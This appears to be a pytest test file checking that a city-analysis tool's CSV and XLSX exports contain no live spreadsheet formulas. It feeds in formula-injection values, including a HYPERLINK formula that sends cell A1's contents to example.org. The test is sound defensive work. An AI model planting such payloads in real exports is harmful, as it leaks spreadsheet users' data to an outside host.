"""Law: whatever a place or a zone is called, no cell of a table that is written is a formula."""

from __future__ import annotations

import csv
import re
from typing import TYPE_CHECKING

import openpyxl
import pytest

from quartieri15.publish.analysis_folder import write_analysis
from quartieri15.publish.site.building import write_site
from tests.ascii_city import draw_city

if TYPE_CHECKING:
    from pathlib import Path

    from quartieri15.model.city import City

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Casa")'
NUMBER = re.compile(r"[+-]?[\d.,]+(e[+-]?\d+)?", re.IGNORECASE)


@pytest.fixture(scope="module")
def city() -> City:
    """Two houses on a street; every name begins as a formula does."""
    drawn = draw_city(
        "A" + "-" * 15 + "B",
        cell=100,
        places={FORMULA: (0, 0), "@SUM(A1)": (16, 0)},
        people={(1, 0): 2000.0, (8, 0): 400.0, (16, 0): 600.0},
    )
    zones = {key: table.assign(name=f"+{FORMULA}") for key, table in drawn.zones.items()}
    told = {"vintages": {"streets": FORMULA}, "licence_line": FORMULA}
    return drawn.with_(zones=zones, provenance={**drawn.provenance, **told})


def cells_of(path: Path) -> list[str]:
    text = path.read_text("utf-8-sig")
    separator = ";" if text.partition("\n")[0].count(";") else ","
    return [cell for row in csv.reader(text.splitlines(), delimiter=separator) for cell in row]


@pytest.mark.parametrize("decimal", [".", ","])
def test_no_table_of_a_question_computes(city: City, tmp_path: Path, decimal: str) -> None:
    write_analysis(
        city, tmp_path / "out", profiles=["walk_75"], minutes=[5], groups=None, decimal=decimal
    )
    require_no_formula(tmp_path / "out", tables=5, books=1)


def test_no_table_of_a_site_computes(city: City, tmp_path: Path) -> None:
    write_site(city, tmp_path / "out")
    require_no_formula(tmp_path / "out", tables=3, books=1)


def require_no_formula(folder: Path, *, tables: int, books: int) -> None:
    """Open every table as a spreadsheet does."""
    lists, workbooks = ([*folder.rglob(f"*.{ending}")] for ending in ("csv", "xlsx"))
    assert len(lists) >= tables
    assert len(workbooks) >= books
    told = [cell for path in lists for cell in cells_of(path)]
    assert any("HYPERLINK" in cell for cell in told)
    assert not [
        cell
        for cell in told
        if cell.strip().startswith(tuple("=+-@")) and not NUMBER.fullmatch(cell.strip())
    ]
    for path in workbooks:
        book = openpyxl.load_workbook(path)
        kinds = [cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row]
        assert "s" in kinds
        assert "f" not in kinds
